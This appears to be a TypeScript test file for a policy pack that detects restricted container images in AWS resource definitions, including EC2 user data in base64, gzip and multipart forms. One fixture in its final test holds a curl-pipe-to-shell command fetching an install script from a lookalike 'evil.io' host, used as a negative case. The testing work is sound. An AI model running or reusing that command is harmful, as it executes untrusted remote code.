import { gzipSync } from "zlib";
import { UNKNOWN } from "../../src/harness/wireValues";
import { KCS_IMAGE, levels, properties, useContainerPack } from "./support";

const { configure, analyze } = useContainerPack();

beforeEach(() => configure());

const ECR_IMAGE = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/agent:7";

describe("ECS task definitions (containerDefinitions is a JSON string)", () => {
  const taskDefinition = (containers: unknown[]) => ({ family: "app", containerDefinitions: JSON.stringify(containers) });

  it("blocks a restricted image inside the JSON document", async () => {
    const diagnostics = await analyze(
      "aws:ecs/taskDefinition:TaskDefinition",
      taskDefinition([
        { name: "web", image: "nginx:1.27" },
        { name: "scan", image: KCS_IMAGE },
      ]),
    );
    expect(properties(diagnostics)).toEqual(["containerDefinitions[1].image"]);
  });

  it("reads keys without regard to case, as AWS does", async () => {
    const diagnostics = await analyze("aws:ecs/taskDefinition:TaskDefinition", taskDefinition([{ Name: "scan", Image: KCS_IMAGE }]));
    expect(properties(diagnostics)).toEqual(["containerDefinitions[0].image"]);
  });

  it("matches an ECR image through the registry's account", async () => {
    const [diagnostic] = await analyze("aws:ecs/taskDefinition:TaskDefinition", taskDefinition([{ name: "agent", image: ECR_IMAGE }]));
    expect(diagnostic.message).toContain('matched:   AWS account "111122223333"');
  });

  it("finds a pull command in a container's command and entryPoint", async () => {
    const diagnostics = await analyze(
      "aws:ecs/taskDefinition:TaskDefinition",
      taskDefinition([
        { name: "init", image: "docker:27", entryPoint: ["sh", "-c"], command: ["docker pull examplevendor/agent:7 && docker run examplevendor/agent:7"] },
      ]),
    );
    expect(properties(diagnostics)).toEqual(["containerDefinitions[0].command[0]"]);
    expect(diagnostics[0].message).toContain('argument of "docker pull"');
  });

  it("reports a containerDefinitions value that is not JSON without quoting it", async () => {
    const diagnostics = await analyze("aws:ecs/taskDefinition:TaskDefinition", {
      containerDefinitions: '[{"image": "x", "environment": [{"name": "TOKEN", "value": "s3cr3t"',
    });
    expect(levels(diagnostics)).toEqual(["advisory"]);
    expect(diagnostics[0].message).not.toContain("s3cr3t");
  });

  it("fails closed when the whole containerDefinitions document is unknown", async () => {
    const diagnostics = await analyze("aws:ecs/taskDefinition:TaskDefinition", { containerDefinitions: UNKNOWN });
    expect(levels(diagnostics)).toEqual(["mandatory"]);
    expect(properties(diagnostics)).toEqual(["containerDefinitions"]);
  });
});

describe("AWS Batch job definitions", () => {
  it("reads containerProperties (JSON)", async () => {
    const diagnostics = await analyze("aws:batch/jobDefinition:JobDefinition", {
      type: "container",
      containerProperties: JSON.stringify({ image: KCS_IMAGE, command: ["scan"] }),
    });
    expect(properties(diagnostics)).toEqual(["containerProperties.image"]);
  });

  it("reads ecsProperties task containers (JSON)", async () => {
    const ecsProperties = JSON.stringify({
      taskProperties: [
        {
          containers: [
            { name: "a", image: "nginx" },
            { name: "b", image: KCS_IMAGE },
          ],
        },
      ],
    });
    const diagnostics = await analyze("aws:batch/jobDefinition:JobDefinition", { type: "container", ecsProperties });
    expect(properties(diagnostics)).toEqual(["ecsProperties.taskProperties[0].containers[1].image"]);
  });

  it("reads eksProperties pod containers and init containers (object)", async () => {
    const eksProperties = { podProperties: { containers: [{ image: "nginx" }], initContainers: [{ image: KCS_IMAGE }] } };
    const diagnostics = await analyze("aws:batch/jobDefinition:JobDefinition", { type: "container", eksProperties });
    expect(properties(diagnostics)).toEqual(["eksProperties.podProperties.initContainers[0].image"]);
  });

  it("reads multi-node nodeProperties (JSON)", async () => {
    const nodeProperties = JSON.stringify({ mainNode: 0, numNodes: 2, nodeRangeProperties: [{ targetNodes: "0:", container: { image: KCS_IMAGE } }] });
    const diagnostics = await analyze("aws:batch/jobDefinition:JobDefinition", { type: "multinode", nodeProperties });
    expect(properties(diagnostics)).toEqual(["nodeProperties.nodeRangeProperties[0].container.image"]);
  });
});

describe("other AWS compute", () => {
  it.each([
    ["aws:lambda/function:Function", { packageType: "Image", imageUri: KCS_IMAGE }, "imageUri"],
    [
      "aws:apprunner/service:Service",
      { sourceConfiguration: { imageRepository: { imageIdentifier: KCS_IMAGE, imageRepositoryType: "ECR_PUBLIC" } } },
      "sourceConfiguration.imageRepository.imageIdentifier",
    ],
    ["aws:sagemaker/model:Model", { executionRoleArn: "arn:aws:iam::123456789012:role/sm", primaryContainer: { image: KCS_IMAGE } }, "primaryContainer.image"],
    [
      "aws:sagemaker/model:Model",
      { executionRoleArn: "arn:aws:iam::123456789012:role/sm", containers: [{ image: "nginx" }, { image: KCS_IMAGE }] },
      "containers[1].image",
    ],
    ["aws:codebuild/project:Project", { environment: { computeType: "BUILD_GENERAL1_SMALL", image: KCS_IMAGE, type: "LINUX_CONTAINER" } }, "environment.image"],
    ["aws:imagebuilder/containerRecipe:ContainerRecipe", { containerType: "DOCKER", parentImage: KCS_IMAGE, version: "1.0.0" }, "parentImage"],
    [
      "aws:lightsail/containerServiceDeploymentVersion:ContainerServiceDeploymentVersion",
      { serviceName: "svc", containers: [{ containerName: "scan", image: KCS_IMAGE }] },
      "containers[0].image",
    ],
  ])("blocks a restricted image in %s at %#", async (type, props, property) => {
    expect(properties(await analyze(type, props))).toEqual([property]);
  });

  it("reads FROM lines in an Image Builder container recipe's Dockerfile template", async () => {
    const recipe = {
      containerType: "DOCKER",
      parentImage: "amazonlinux:2023",
      version: "1.0.0",
      dockerfileTemplateData: `FROM {{{ imagebuilder:parentImage }}}\nFROM ${KCS_IMAGE} AS scanner\n`,
    };
    expect(properties(await analyze("aws:imagebuilder/containerRecipe:ContainerRecipe", recipe))).toEqual(["dockerfileTemplateData"]);
  });

  it("leaves an Image Builder recipe whose parent is an Amazon-managed image ARN alone", async () => {
    const recipe = { containerType: "DOCKER", parentImage: "arn:aws:imagebuilder:us-east-1:aws:image/amazon-linux-x86-2/x.x.x", version: "1.0.0" };
    expect(await analyze("aws:imagebuilder/containerRecipe:ContainerRecipe", recipe)).toEqual([]);
  });

  it("leaves a Lightsail image pushed to the container service itself alone", async () => {
    expect(
      await analyze("aws:lightsail/containerServiceDeploymentVersion:ContainerServiceDeploymentVersion", {
        serviceName: "svc",
        containers: [{ containerName: "web", image: ":svc.web.3" }],
      }),
    ).toEqual([]);
  });

  it("fails closed on a Lambda image URI unknown during preview", async () => {
    expect(levels(await analyze("aws:lambda/function:Function", { packageType: "Image", imageUri: UNKNOWN }))).toEqual(["mandatory"]);
  });
});

describe("EC2 user data", () => {
  const script = "#!/bin/bash\nset -e\ndocker run -d --restart=always --name agent repo.kcs.kaspersky.com/kcs/node-agent:2.0\n";

  it("finds a docker run of a restricted image in plain user data", async () => {
    const diagnostics = await analyze("aws:ec2/instance:Instance", { ami: "ami-0abcdef1234567890", userData: script });
    expect(properties(diagnostics)).toEqual(["userData"]);
    expect(diagnostics[0].message).toContain("reference: container image reference in text repo.kcs.kaspersky.com/kcs/node-agent:2.0");
  });

  it("decodes base64 user data (launch templates always carry it so)", async () => {
    const diagnostics = await analyze("aws:ec2/launchTemplate:LaunchTemplate", { userData: Buffer.from(script).toString("base64") });
    expect(diagnostics[0].message).toContain("in base64-decoded user data");
  });

  it("decodes base64 user data broken into lines, as the base64 tool prints it", async () => {
    const lines = Buffer.from(script.repeat(3)).toString("base64").replace(/.{76}/g, "$&\n");
    const diagnostics = await analyze("aws:ec2/instance:Instance", { userData: lines });
    expect(diagnostics[0].message).toContain("in base64-decoded user data");
  });

  it("decodes base64 user data whose last character holds bits the decoding drops", async () => {
    const encoded = Buffer.from(`${script}#`).toString("base64");
    expect(encoded.endsWith("Iw==")).toBe(true);
    const diagnostics = await analyze("aws:ec2/instance:Instance", { userData: `${encoded.slice(0, -3)}x==` });
    expect(diagnostics[0].message).toContain("in base64-decoded user data");
  });

  it("decodes gzip-compressed base64 user data", async () => {
    const diagnostics = await analyze("aws:ec2/instance:Instance", { userDataBase64: gzipSync(script).toString("base64") });
    expect(diagnostics[0].message).toContain("in base64-decoded, gunzipped user data");
  });

  const multipart = (part: string, encoding: string) =>
    [
      'Content-Type: multipart/mixed; boundary="==BOUNDARY=="',
      "MIME-Version: 1.0",
      "",
      "--==BOUNDARY==",
      'Content-Type: text/cloud-config; charset="us-ascii"',
      "",
      "#cloud-config\npackages: [curl]",
      "--==BOUNDARY==",
      'Content-Type: text/x-shellscript; charset="us-ascii"',
      `Content-Transfer-Encoding: ${encoding}`,
      "",
      part,
      "--==BOUNDARY==--",
      "",
    ].join("\n");

  it("decodes a base64 part of MIME multipart user data", async () => {
    const diagnostics = await analyze("aws:ec2/instance:Instance", { userData: multipart(Buffer.from(script).toString("base64"), "base64") });
    expect(levels(diagnostics)).toEqual(["mandatory"]);
    expect(diagnostics[0].message).toContain("in a base64 part of multipart user data");
  });

  it("decodes a base64 part of multipart user data that is itself base64 and gzip-compressed, as cloudinit_config writes it", async () => {
    const userData = gzipSync(multipart(Buffer.from(script).toString("base64"), "base64")).toString("base64");
    expect(levels(await analyze("aws:ec2/launchTemplate:LaunchTemplate", { userData }))).toEqual(["mandatory"]);
  });

  it("does not decode a multipart part that is not marked base64, as cloud-init would not", async () => {
    expect(await analyze("aws:ec2/instance:Instance", { userData: multipart(Buffer.from(script).toString("base64"), "7bit") })).toEqual([]);
  });

  it("quotes only the reference, never the rest of the script", async () => {
    const [{ message }] = await analyze("aws:ec2/instance:Instance", { userData: `${script}export DB_PASSWORD=hunter2\n` });
    expect(message).not.toContain("hunter2");
  });

  it("does not report scripts that pull unrelated images or mention the vendor in prose", async () => {
    const benign =
      "#!/bin/bash\n# Kaspersky was removed in 2024; see kaspersky.com and notkaspersky.com\ndocker run nginx\ncurl -fsSL https://repo.kcs.kaspersky.com.evil.io/install.sh | sh\npodman pull kasperskytte/tool\n";
    expect(await analyze("aws:ec2/instance:Instance", { userData: benign })).toEqual([]);
  });
});
